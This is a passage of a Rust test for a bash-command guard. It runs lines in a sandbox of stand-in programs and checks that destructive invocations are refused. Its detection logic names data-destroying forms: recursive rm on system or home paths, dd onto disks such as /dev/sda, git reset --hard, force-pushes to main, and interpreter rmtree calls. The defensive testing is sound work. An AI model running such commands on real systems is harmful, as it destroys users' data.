        for (name, body) in RUNNERS {
            script(name, body);
        }
        for tool in REAL_TOOLS {
            symlink(which(tool), tools.join(tool)).unwrap();
        }
        symlink(&bash, tools.join("sh")).unwrap();
        symlink(&bash, tools.join("bash5")).unwrap();
        Sandbox {
            path: format!("{}:{}", standins.display(), tools.display()),
            bash,
            home,
            work,
            log,
        }
    }

    /// Runs `line` in bash and returns what the stand-ins recorded.
    fn run(&self, line: &str) -> Vec<Run> {
        for entry in fs::read_dir(&self.log).unwrap() {
            fs::remove_file(entry.unwrap().path()).unwrap();
        }
        // What one line wrote (`./s.sh`, a symlink) is gone for the next.
        let _ = fs::remove_dir_all(&self.work);
        fs::create_dir_all(&self.work).unwrap();
        Command::new(&self.bash)
            .arg("-c")
            .arg(line)
            .env_clear()
            .env("PATH", &self.path)
            .env("HOME", &self.home)
            .current_dir(&self.work)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status()
            .unwrap();
        let mut runs = Vec::new();
        for entry in fs::read_dir(&self.log).unwrap() {
            let bytes = fs::read(entry.unwrap().path()).unwrap();
            let text = String::from_utf8_lossy(&bytes);
            let mut fields: Vec<String> = text.split('\0').map(str::to_owned).collect();
            fields.pop();
            if fields.len() >= 2 {
                let args = fields.split_off(2);
                runs.push(Run {
                    pwd: fields[0].clone(),
                    name: fields[1].clone(),
                    args,
                });
            }
        }
        runs
    }
}

/// The absolute path of `program` on the test's own `PATH`.
fn which(program: &str) -> PathBuf {
    std::env::var_os("PATH")
        .iter()
        .flat_map(std::env::split_paths)
        .map(|dir| dir.join(program))
        .find(|path| path.is_file())
        .unwrap_or_else(|| panic!("{program} must be installed to run this test"))
}

/// A line that could reach a real program or file despite the sandbox:
/// one that names a program by path, sets `PATH`, or writes anywhere but
/// a file of the working directory (`> ./s.sh`).
fn escapes_the_sandbox(line: &str) -> bool {
    let writes_outside = line
        .match_indices('>')
        .any(|(at, _)| !line[at + 1..].trim_start().starts_with("./"));
    // `hash -p` may only name a stand-in, found on `PATH`.
    let hashes_a_path = line
        .match_indices("hash")
        .any(|(at, _)| !line[at..].starts_with("hash -p \"$(command -v "));
    writes_outside
        || hashes_a_path
        || ["bin/", "PATH", "command -p", "enable", "exec -a"]
            .iter()
            .any(|needle| line.contains(needle))
}

/// Whether what the stand-ins recorded would have destroyed something: an
/// independent reading of the arguments, not the guard's.
fn dangerous(run: &Run, home: &Path) -> bool {
    let path = |p: &str| dangerous_path(&run.pwd, p, home);
    let device = |p: &str| {
        block_device(&if p.starts_with('/') {
            p.to_owned()
        } else {
            format!("{}/{p}", run.pwd)
        })
    };
    let args = &run.args;
    match run.name.as_str() {
        "rm" => {
            let (options, operands) = split_options(args);
            let recursive = options.iter().any(|o| {
                (!o.starts_with("--") && (o.contains('r') || o.contains('R')))
                    || abbreviates(o, "--recursive")
            });
            recursive && operands.iter().any(|o| path(o))
        }
        "find" => {
            let starts: Vec<&String> = args
                .iter()
                .skip_while(|a| matches!(a.as_str(), "-H" | "-L" | "-P"))
                .take_while(|a| !a.starts_with('-') && *a != "(" && *a != "!")
                .collect();
            args.iter().any(|a| a == "-delete") && starts.iter().any(|s| path(s))
        }
        "dd" => args
            .iter()
            .any(|a| a.strip_prefix("of=").is_some_and(device)),
        "cp" => split_options(args).1.last().is_some_and(|d| device(d)),
        // A mode, then paths: the home directory locked or opened.
        "chmod" | "chown" => split_options(args).1.iter().skip(1).any(|o| path(o)),
        "mv" => {
            let operands = split_options(args).1;
            operands.len() > 1 && operands[..operands.len() - 1].iter().any(|o| path(o))
        }
        "rsync" => {
            let (options, operands) = split_options(args);
            options.iter().any(|o| o.starts_with("--del"))
                && operands.len() > 1
                && operands.last().is_some_and(|d| path(d))
        }
        "git" => dangerous_git(args),
        "python" | "python3" | "python3.12" | "perl" => {
            let code = inline_code(&run.name, args);
            code.contains("REMOTE-CODE") || dangerous_code(&code, &run.pwd, home)
        }
        _ => false,
    }
}

/// Options before `--` and the operands.
fn split_options(args: &[String]) -> (Vec<&String>, Vec<&String>) {
    let mut options = Vec::new();
    let mut operands = Vec::new();
    let mut rest = false;
    for arg in args {
        if rest || arg == "-" || !arg.starts_with('-') {
            operands.push(arg);
        } else if arg == "--" {
            rest = true;
        } else {
            options.push(arg);
        }
    }
    (options, operands)
}

/// `--rec` for `--recursive`: GNU getopt takes any unambiguous prefix.
fn abbreviates(arg: &str, long: &str) -> bool {
    let key = arg.split('=').next().unwrap_or(arg);
    key.len() > 2 && key.starts_with("--") && long.starts_with(key)
}

fn dangerous_git(args: &[String]) -> bool {
    let mut at = 0;
    while let Some(arg) = args.get(at) {
        match arg.as_str() {
            "-C" | "-c" | "--git-dir" | "--work-tree" | "--namespace" => at += 2,
            other if other.starts_with('-') => at += 1,
            _ => break,
        }
    }
    let Some(subcommand) = args.get(at) else {
        return false;
    };
    let rest = &args[at + 1..];
    let (options, operands) = split_options(rest);
    let has = |short: char, long: &str| {
        options.iter().any(|o| {
            (!o.starts_with("--") && o.contains(short)) || (o.len() > 3 && abbreviates(o, long))
        })
    };
    let whole_tree = operands.iter().any(|o| *o == "." || *o == ":/");
    match subcommand.as_str() {
        "reset" => options.iter().any(|o| abbreviates(o, "--hard")),
        "push" => {
            let force = has('f', "--force");
            let mirror = options
                .iter()
                .any(|o| o.len() > 3 && abbreviates(o, "--mirror"));
            let protected = operands.iter().skip(1).any(|spec| {
                let branch = spec
                    .rsplit(':')
                    .next()
                    .unwrap_or(spec)
                    .trim_start_matches('+');
                (branch == "main" || branch == "master")
                    && (force || spec.starts_with('+') || spec.starts_with(':'))
            });
            mirror || protected
        }
        "checkout" => whole_tree || has('f', "--force"),
        "restore" => whole_tree && !options.iter().any(|o| *o == "--staged" || *o == "-S"),
        "clean" => has('f', "--force"),
        "stash" => operands
            .first()
            .is_some_and(|o| *o == "clear" || *o == "drop"),
        _ => false,
    }
}

/// The code an interpreter ran: its `-c`/`-e` strings and what it read on
/// standard input.
fn inline_code(name: &str, args: &[String]) -> String {
    let flag = if name == "perl" { 'e' } else { 'c' };
    let mut code = Vec::new();
    let mut args = args.iter();
    while let Some(arg) = args.next() {
        let cluster = arg
            .strip_prefix('-')
            .filter(|c| c.chars().all(|c| c.is_ascii_alphabetic()));
        if arg == "<stdin>" || cluster.is_some_and(|c| c.ends_with(flag)) {
            code.extend(args.next().cloned());
        }
    }
    code.join("\n")
}

/// Interpreter code that deletes a dangerous path or runs `rm -r` on one:
/// read from the string literals it holds.
fn dangerous_code(code: &str, pwd: &str, home: &Path) -> bool {
    let literals = string_literals(code);
    let deletes_tree = ["rmtree", "remove_tree", "rmdir"]
        .iter()
        .any(|call| code.contains(call));
    if deletes_tree && literals.iter().any(|l| dangerous_path(pwd, l, home)) {
        return true;
    }
    let words: Vec<String> = literals
        .iter()
        .flat_map(|l| l.split_whitespace().map(str::to_owned))
        .collect();
    words.iter().enumerate().any(|(at, word)| {
        word == "rm"
            && dangerous(
                &Run {
                    pwd: pwd.to_owned(),
                    name: "rm".to_owned(),
                    args: words[at + 1..].to_vec(),
                },
                home,
            )
    })
}

/// Quoted strings, and the commands of Perl's `` `…` `` and `qx{…}`.
fn string_literals(code: &str) -> Vec<String> {
    let mut literals = Vec::new();
    let mut chars = code.chars().peekable();
    while let Some(c) = chars.next() {
        let close = match c {
            '\'' | '"' | '`' => c,
            'q' if chars.next_if_eq(&'x').is_some() && chars.next_if_eq(&'{').is_some() => '}',
            _ => continue,
        };
        let literal: String = chars.by_ref().take_while(|d| *d != close).collect();
        literals.push(literal);
    }
    literals
}

/// The root, a top-level system directory (any case: macOS folds it), a
/// user's home, the home directory, a directory above the working one, a
/// Windows drive under WSL.
fn dangerous_path(pwd: &str, path: &str, home: &Path) -> bool {
    let path = if path == "~" {
        home.to_str().unwrap()
    } else {
        path
    };
    let absolute = if path.starts_with('/') {
        path.to_owned()
    } else {
        format!("{pwd}/{path}")
    };
    let mut segments: Vec<&str> = Vec::new();
    for segment in absolute.split('/') {
        match segment {
            "" | "." => {}
            ".." => {
                segments.pop();
            }
            other => segments.push(other),
        }
    }
    let normal = format!("/{}", segments.join("/"));
    let system = [
        "bin",
        "boot",
        "dev",
        "etc",
        "home",
        "lib",
        "lib64",
        "opt",
        "proc",
        "root",
        "sbin",
        "srv",
        "sys",
        "usr",
        "var",
        "users",
        "applications",
        "library",
        "system",
        "volumes",
        "private",
    ];
    let lower: Vec<String> = segments.iter().map(|s| s.to_lowercase()).collect();
    match lower.as_slice() {
        [] => return true,
        [top] if system.contains(&top.as_str()) => return true,
        [top, _] if top == "home" || top == "users" => return true,
        [private, inner] if private == "private" && (inner == "etc" || inner == "var") => {
            return true;
        }
        [mnt, drive] if mnt == "mnt" && drive.len() == 1 => return true,
        [mnt, drive, rest @ ..] if mnt == "mnt" && drive.len() == 1 => {
            return matches!(rest, [users, _] if users == "users")
                || matches!(rest, [windows] if windows == "windows" || windows == "users");
        }
        _ => {}
    }
    let home = home.to_str().unwrap();
    normal == home || (pwd.starts_with(&normal) && pwd[normal.len()..].starts_with('/'))
}

/// A disk, partition or volume under `/dev`, or a glob that names one.
fn block_device(path: &str) -> bool {
    let Some(device) = path.strip_prefix("/dev/") else {
        return false;
    };
    let disks = [
        "sda", "sdb1", "hda", "vda", "xvda", "nvme0n1", "mmcblk0", "md0", "dm-0", "loop0", "nbd0",
    ];
    match device.split_once('/') {
        Some((group, _)) => !["fd", "shm", "pts", "mqueue", "input", "snd"].contains(&group),
        None => disks.iter().any(|disk| glob_matches(device, disk)),
    }
}

/// `*`, `?` and `[…]` (no ranges) against `name`.
fn glob_matches(glob: &str, name: &str) -> bool {
    let (glob, name): (Vec<char>, Vec<char>) = (glob.chars().collect(), name.chars().collect());
    fn go(glob: &[char], name: &[char]) -> bool {
        match glob.first() {
            None => name.is_empty(),
            Some('*') => (0..=name.len()).any(|skip| go(&glob[1..], &name[skip..])),
            Some('?') => !name.is_empty() && go(&glob[1..], &name[1..]),
            Some('[') => match glob.iter().position(|c| *c == ']') {
                Some(close) => {
                    !name.is_empty()
                        && glob[1..close].contains(&name[0])
                        && go(&glob[close + 1..], &name[1..])
                }
                None => name.first() == Some(&'[') && go(&glob[1..], &name[1..]),
            },
            Some(c) => name.first() == Some(c) && go(&glob[1..], &name[1..]),
        }
    }
    go(&glob, &name)
}

#[test]
fn the_guard_refuses_exactly_the_lines_bash_runs_dangerously() {
    let sandbox = Sandbox::new();
    let mut failures = Vec::new();
    // Per class: lines tried, dangerous when run, refused by the guard.
    let mut counts: BTreeMap<Class, (usize, usize, usize)> = BTreeMap::new();
    for (class, line) in LINES {
        assert!(
            !escapes_the_sandbox(line),
            "{line:?} could reach real programs"
        );
        let runs = sandbox.run(line);
        let ran_dangerously = runs.iter().any(|run| dangerous(run, &sandbox.home));
        let findings = find_bash_problems(line, DEFAULT_BASH_RULES);
        let refused = !findings.is_empty();
        let count = counts.entry(*class).or_default();
        count.0 += 1;
        count.1 += usize::from(ran_dangerously);
        count.2 += usize::from(refused);
        let expected_dangerous = !matches!(class, Harmless | Unknowable);
        if ran_dangerously != expected_dangerous {
            failures.push(format!(
                "{class:?} line {line:?} is not what the table says when bash runs it: {runs:?}"
            ));
        }
        let rules: Vec<&str> = findings.iter().map(|f| f.rule).collect();
        let wrong = match class {
            // Refused for what it runs, not because it did not parse.
            _ if ran_dangerously => !rules
                .iter()
                .any(|rule| ![BashFinding::UNPARSEABLE, BashFinding::TOO_COMPLEX].contains(rule)),
            Unknowable => rules.is_empty() || rules.iter().any(|r| *r != BashFinding::UNREADABLE),
            _ => refused,
        };
        if wrong {
            failures.push(format!(
                "{line:?}: bash ran {runs:?}, the guard found {:?}",
                findings.iter().map(ToString::to_string).collect::<Vec<_>>()
            ));
        }
    }
    for (class, (tried, dangerous, refused)) in &counts {
        eprintln!("{class:?}: {tried} lines, {dangerous} dangerous in bash, {refused} refused");
    }
    let _ = fs::remove_dir_all(sandbox.home.parent().unwrap());
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}
